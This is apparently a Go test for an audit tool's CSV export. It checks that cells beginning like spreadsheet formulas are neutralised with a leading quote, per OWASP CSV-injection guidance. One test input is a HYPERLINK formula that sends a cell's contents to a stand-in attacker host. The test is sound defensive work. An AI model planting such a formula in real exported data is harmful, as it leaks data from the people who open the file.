package audit

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// formulas are cell values a spreadsheet would run as a formula: each of
// OWASP's CSV-injection prefixes, and text that also needs CSV quoting.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1",
	"=1,2\n\"3\"",
}

// safeCells are values that must reach the CSV as they are.
var safeCells = []string{"", "sre-oncall", "a=b", "1+1", " =not first", "'quoted"}

// TestCSVNeutralisesFormulas: a text cell that starts like a formula gets
// a leading single quote (OWASP's CSV injection guidance), so a
// spreadsheet shows it as text; encoding/csv quotes it; any other cell,
// and every JSON Lines value, is written as it is.
func TestCSVNeutralisesFormulas(t *testing.T) {
	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
	wait := -1.5
	var rows []ApprovalRow
	var want [][]string
	for _, v := range append(append([]string{}, formulas...), safeCells...) {
		rows = append(rows, ApprovalRow{EventID: "e", ContractID: v, Approver: v, Reason: v, RecordedAt: at, DecidedAt: at, WaitSeconds: &wait})
		shown := v
		for _, f := range formulas {
			if v == f {
				shown = "'" + v
			}
		}
		want = append(want, []string{shown, shown, shown, "-1.5"})
	}
	table := Table{Name: "approvals", Rows: rows}

	var out bytes.Buffer
	if err := table.WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cols := table.Columns()
	idx := func(name string) int {
		for i, c := range cols {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	var got [][]string
	for _, r := range records[1:] {
		got = append(got, []string{r[idx("contract_id")], r[idx("approver")], r[idx("reason")], r[idx("wait_seconds")]})
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("export CSV cells (-want +got):\n%s", diff)
	}

	out.Reset()
	if err := table.WriteJSONL(&out); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&out)
	for i := range rows {
		var r ApprovalRow
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		if r.ContractID != rows[i].ContractID || r.Approver != rows[i].Approver {
			t.Errorf("JSON Lines row %d: %q, want %q", i, r.ContractID, rows[i].ContractID)
		}
	}

	// `nova evidence query --output csv` writes events the same way.
	out.Reset()
	w, err := NewEventWriter(&out, "csv")
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range formulas {
		if err := w.Write(EventRow{Time: at, ContractID: v, Environment: v, Type: v, RunID: v, Approvers: []string{v, "b"}, Reasons: []string{v}, EventID: v, EvidenceCommit: v, Path: v}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	records, err = csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range records[1:] {
		for j, cell := range r {
			if j == 0 || j == 4 { // time and seq are Nova's own numbers
				continue
			}
			if !strings.HasPrefix(cell, "'"+formulas[i]) {
				t.Errorf("query CSV row %d column %s is %q, want it to start with %q", i+1, eventColumns[j], cell, "'"+formulas[i])
			}
		}
	}
}
